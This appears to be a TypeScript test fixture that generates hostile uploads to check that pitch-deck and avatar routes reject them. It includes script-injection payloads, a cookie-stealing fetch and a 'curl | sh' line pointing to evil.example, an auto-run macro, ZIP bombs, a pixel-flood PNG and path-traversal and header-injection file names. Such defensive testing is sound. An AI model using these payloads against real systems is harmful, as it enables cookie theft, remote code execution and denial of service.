import { crc32, deflateRawSync, gzipSync } from 'node:zlib';
import { lyingEntry } from '../../decks/zip.js';
import sharp from 'sharp';
import { PITCH_DECK_MAX_BYTES } from '../../../src/shared/pitch-deck.js';
import { AVATAR_MAX_BYTES } from '../../../src/shared/founders.js';
import { buildZip, minimalPdf, minimalPpt, minimalPptx, pdfOfSize, PPTX_ENTRIES, type ZipEntryInput } from './fixtures.js';

/** A file no upload route may accept, under the name a browser would send it with. */
export interface HostileFile {
  label: string;
  fileName: string;
  data: Buffer;
  /** 413 for files over the route's limit; 422 otherwise. */
  status: 413 | 422;
}

const HTML = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>';
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
const PE = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([0x80, 0, 0, 0]),
  Buffer.alloc(64),
  Buffer.from('PE\0\0'),
  Buffer.alloc(200),
]);
const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
const contentTypes = (main: string, extra = '') =>
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  `<Default Extension="xml" ContentType="application/xml"/>${extra}<Override PartName="/ppt/presentation.xml" ContentType="${main}"/></Types>`;
const withoutContentTypes = PPTX_ENTRIES.filter((entry) => entry.name !== '[Content_Types].xml');
const pptx = (entries: ZipEntryInput[]) => buildZip([...PPTX_ENTRIES, ...entries]);

/** An OLE2 file like the .ppt fixture, with its stream renamed or its header bent. */
function ole2(change: (file: Buffer) => void): Buffer {
  const file = minimalPpt();
  change(file);
  return file;
}

/** Hostile files for the pitch-deck upload (PDF, PPT or PPTX by content, ≤ 25 MB). */
export function hostileDecks(): HostileFile[] {
  const pdf = minimalPdf();
  const oneMegabyteOfZeros = {
    name: Buffer.from(''),
    compressed: deflateRawSync(Buffer.alloc(1024 * 1024)),
    crc: crc32(Buffer.alloc(1024 * 1024)),
    size: 1024 * 1024,
  };
  const deck = (label: string, fileName: string, data: Buffer | string, status: 413 | 422 = 422): HostileFile => ({
    label,
    fileName,
    data: Buffer.from(data),
    status,
  });
  return [
    deck('HTML page renamed .pdf', 'deck.pdf', HTML),
    deck('SVG with script renamed .pdf', 'deck.pdf', SVG),
    deck('JavaScript renamed .pdf', 'deck.pdf', 'fetch("https://evil.example/?c="+document.cookie)'),
    deck(
      'XHTML renamed .pptx',
      'deck.pptx',
      `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`,
    ),
    deck('UTF-16 HTML renamed .pdf', 'deck.pdf', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(HTML, 'utf16le')])),
    deck(
      'PDF/HTML polyglot (script in the first kilobyte)',
      'deck.pdf',
      Buffer.concat([Buffer.from(`%PDF-1.4\n%${HTML}\n`), pdf.subarray(9)]),
    ),
    deck('PDF with a ZIP appended', 'deck.pdf', Buffer.concat([pdf, minimalPptx()])),
    deck('PPTX behind a PDF header', 'deck.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), minimalPptx()])),
    deck('PDF after leading junk', 'deck.pdf', Buffer.concat([Buffer.from('JUNK\n'), pdf])),
    deck('truncated PDF (no %%EOF)', 'deck.pdf', pdf.subarray(0, 80)),
    deck('PDF header only', 'deck.pdf', '%PDF-1.7\n'),
    deck('gzip of a PDF', 'deck.pdf', gzipSync(pdf)),
    deck('PostScript renamed .pdf', 'deck.pdf', '%!PS-Adobe-3.0\n/Helvetica findfont 12 scalefont setfont\nshowpage\n'),
    deck('RTF renamed .pdf', 'deck.pdf', '{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105}}}'),
    deck('ELF executable renamed .pdf', 'deck.pdf', ELF),
    deck('Windows executable renamed .pptx', 'deck.pptx', PE),
    deck('shell script renamed .ppt', 'deck.ppt', '#!/bin/sh\ncurl https://evil.example | sh\n'),
    deck('EICAR test virus renamed .pdf', 'deck.pdf', EICAR),
    deck('PNG image renamed .pdf', 'deck.pdf', Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex')),
    deck('plain ZIP renamed .pptx', 'deck.pptx', buildZip([{ name: 'notes.txt', data: 'hello' }])),
    deck(
      'Word document renamed .pptx',
      'deck.pptx',
      buildZip([
        {
          name: '[Content_Types].xml',
          data: contentTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'),
        },
        { name: 'word/document.xml', data: '<w:document/>' },
      ]),
    ),
    deck(
      'macro-enabled PPTM renamed .pptx',
      'deck.pptx',
      buildZip([
        {
          name: '[Content_Types].xml',
          data: contentTypes(
            'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml',
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
          ),
        },
        ...withoutContentTypes,
        { name: 'ppt/vbaProject.bin', data: 'Attribute VB_Name = "Module1"\nSub AutoOpen()\nShell "calc.exe"\nEnd Sub' },
      ]),
    ),
    deck(
      'PPTX with an entry named like HTML in the first kilobyte',
      'deck.pptx',
      buildZip([{ name: `<html><script>alert(1)</script>.xml`, data: 'x' }, ...PPTX_ENTRIES]),
    ),
    deck('PPTX without ppt/presentation.xml', 'deck.pptx', buildZip(PPTX_ENTRIES.filter((entry) => entry.name !== 'ppt/presentation.xml'))),
    deck('ZIP bomb: 2 MB of zeros at 1000:1', 'deck.pptx', pptx([{ name: 'ppt/media/zeros.bin', data: Buffer.alloc(2 * 1024 * 1024) }])),
    deck(
      'ZIP bomb: 300 entries of 1 MB',
      'deck.pptx',
      buildZip([
        ...PPTX_ENTRIES,
        ...Array.from({ length: 300 }, (_, index) => ({ ...oneMegabyteOfZeros, name: Buffer.from(`ppt/media/${index}.bin`) })),
      ]),
    ),
    deck('ZIP declaring a 4 GB entry', 'deck.pptx', buildZip([...PPTX_ENTRIES, lyingEntry('ppt/media/huge.bin', 0xfffffff0)])),
    deck('two PPTX archives back to back', 'deck.pptx', Buffer.concat([minimalPptx(), minimalPptx()])),
    deck('self-extracting stub before a PPTX', 'deck.pptx', Buffer.concat([PE, minimalPptx()])),
    deck('truncated PPTX', 'deck.pptx', minimalPptx().subarray(0, 200)),
    deck(
      'Word 97 document renamed .ppt',
      'deck.ppt',
      ole2((file) => Buffer.from('WordDocument\0\0\0\0\0\0\0', 'utf16le').copy(file, 512 + 128)),
    ),
    deck(
      'OLE2 with a broken header',
      'deck.ppt',
      ole2((file) => file.writeUInt16LE(0x1234, 28)),
    ),
    deck('empty file', 'deck.pdf', ''),
    deck('25 MB + 1 byte', 'deck.pdf', pdfOfSize(PITCH_DECK_MAX_BYTES + 1), 413),
  ];
}

/** A PNG whose header declares `width`×`height` pixels (its CRC fixed), over a 1×1 image's data. */
async function pixelFlood(width: number, height: number): Promise<Buffer> {
  const png = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#fff' } })
    .png()
    .toBuffer();
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)) >>> 0, 29);
  return png;
}

/** Hostile files for the founder avatar (PNG, JPEG or WebP by content, ≤ 5 MB). */
export async function hostileAvatars(): Promise<HostileFile[]> {
  const png = await sharp({ create: { width: 32, height: 32, channels: 3, background: '#c84' } })
    .png()
    .toBuffer();
  const image = (label: string, fileName: string, data: Buffer | string, status: 413 | 422 = 422): HostileFile => ({
    label,
    fileName,
    data: Buffer.from(data),
    status,
  });
  return [
    image('SVG with script renamed .png', 'me.png', SVG),
    image('HTML renamed .png', 'me.png', HTML),
    image('JavaScript renamed .jpg', 'me.jpg', 'alert(document.cookie)'),
    image('GIF (not an accepted type)', 'me.gif', await sharp(png).gif().toBuffer()),
    image('TIFF (not an accepted type)', 'me.tiff', await sharp(png).tiff().toBuffer()),
    image('PDF renamed .png', 'me.png', minimalPdf()),
    image('ELF executable renamed .png', 'me.png', ELF),
    image('truncated PNG', 'me.png', png.subarray(0, 60)),
    image(
      'PNG with a corrupt image stream',
      'me.png',
      Buffer.concat([png.subarray(0, 41), Buffer.alloc(png.length - 53, 0xaa), png.subarray(-12)]),
    ),
    image('pixel flood: 60 000 × 60 000 declared', 'me.png', await pixelFlood(60_000, 60_000)),
    image('5 MB + 1 byte', 'me.png', Buffer.concat([png, Buffer.alloc(AVATAR_MAX_BYTES + 1 - png.length)]), 413),
  ];
}

/** Names a valid deck may arrive under: all either refused or stored as cleaned display text only. */
export const HOSTILE_NAMES = [
  '../../x.pdf',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'deck\u0000.pdf.html',
  'a\r\nSet-Cookie: hacked=1.pdf',
  '\u202Efdp.exe',
  'deck.pdf.exe',
  'deck.html',
  '<script>alert(1)</script>.pdf',
  '"; filename=evil.exe; x=".pdf',
  '%2e%2e%2f%2e%2e%2fx.pdf',
  'CON.pdf',
  `${'a'.repeat(10_000)}.pdf`,
];
